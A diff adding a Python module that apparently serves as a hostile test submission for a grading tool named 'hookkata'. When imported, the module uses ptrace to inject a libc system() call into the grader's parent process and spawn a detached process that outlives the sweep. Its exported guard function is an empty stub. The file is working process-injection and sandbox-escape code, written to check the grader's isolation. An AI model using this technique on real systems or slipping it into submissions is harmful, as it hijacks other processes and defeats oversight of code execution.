@@ -1,0 +1,118 @@
+"""Escape a subreaper/descendant sweep: ptrace the PARENT of `hookkata grade` (not a descendant of the grader) and make it call libc system("setsid sleep 90 &"), so the sleep belongs to a process the grader never kills; a marker is written when it ends.
+A correct grader leaves no process behind and must not let the learner trace any process. Only targets the direct parent of a process whose argv has 'hookkata' and 'grade'."""
+import ctypes
+import os
+
+_FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
+           "eflags rsp ss fs_base gs_base ds es fs gs").split()
+
+
+class _Regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in _FIELDS]
+
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.ptrace.restype = ctypes.c_long
+_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+
+
+def _grader():
+    pid = os.getppid()
+    for _ in range(6):
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+        except OSError:
+            return None
+        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
+            return pid
+        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        if pid <= 1:
+            return None
+    return None
+
+
+def _maps(pid):
+    out = []
+    for line in open(f"/proc/{pid}/maps"):
+        parts = line.split(maxsplit=5)
+        if len(parts) == 6:
+            lo, hi = (int(x, 16) for x in parts[0].split("-"))
+            out.append((lo, hi, int(parts[2], 16), parts[5].strip()))
+    return out
+
+
+def _remote(pid, name):
+    here = ctypes.cast(getattr(_libc, name), ctypes.c_void_p).value
+    for lo, hi, off, path in _maps("self"):
+        if lo <= here < hi:
+            base_here = lo - off
+            for lo2, _hi2, off2, path2 in _maps(pid):
+                if path2 == path:
+                    return (lo2 - off2) + (here - base_here)
+    raise LookupError(name)
+
+
+def _poke(pid, addr, data):
+    data = data + b"\0" * (-len(data) % 8)
+    for i in range(0, len(data), 8):
+        word = int.from_bytes(data[i:i + 8], "little")
+        _libc.ptrace(5, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(word))
+
+
+def _call(pid, saved, func, arg):
+    regs = _Regs.from_buffer_copy(saved)
+    top = (saved.rsp - 0x10000) & ~0xF
+    _poke(pid, top - 8, (0).to_bytes(8, "little"))  # return address 0: a fault hands control back
+    regs.rsp, regs.rip, regs.rdi, regs.rax, regs.orig_rax = top - 8, func, arg, 0, 0xFFFFFFFFFFFFFFFF
+    _libc.ptrace(13, pid, None, ctypes.byref(regs))
+    _libc.ptrace(7, pid, None, None)  # CONT
+    os.waitpid(pid, 0x40000000)
+    out = _Regs()
+    _libc.ptrace(12, pid, None, ctypes.byref(out))
+    return out.rax
+
+
+def _grader_parent():
+    pid = os.getppid()
+    for _ in range(6):
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            return None
+        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
+            return parent if parent > 1 else None
+        pid = parent
+        if pid <= 1:
+            return None
+    return None
+
+
+def _spawn_from(pid, command):
+    if _libc.ptrace(16, pid, None, None) != 0:
+        return False
+    os.waitpid(pid, 0x40000000)
+    saved = _Regs()
+    _libc.ptrace(12, pid, None, ctypes.byref(saved))
+    try:
+        system = _remote(pid, "system")
+        text_at = (saved.rsp - 0x4000) & ~0xF
+        _poke(pid, text_at, command.encode() + b"\0")
+        _call(pid, saved, system, text_at)
+    finally:
+        _libc.ptrace(13, pid, None, ctypes.byref(saved))
+        _libc.ptrace(17, pid, None, None)
+    return True
+
+
+_target = _grader_parent()
+if _target:
+    try:
+        _spawn_from(_target, "setsid sh -c 'sleep 90; echo outlived > /tmp/hostile-escaped-via-parent.txt' "
+                             "</dev/null >/dev/null 2>&1 &")
+    except Exception:
+        pass
+
+
+def install_guard(dispatcher, guard):
+    return lambda: None
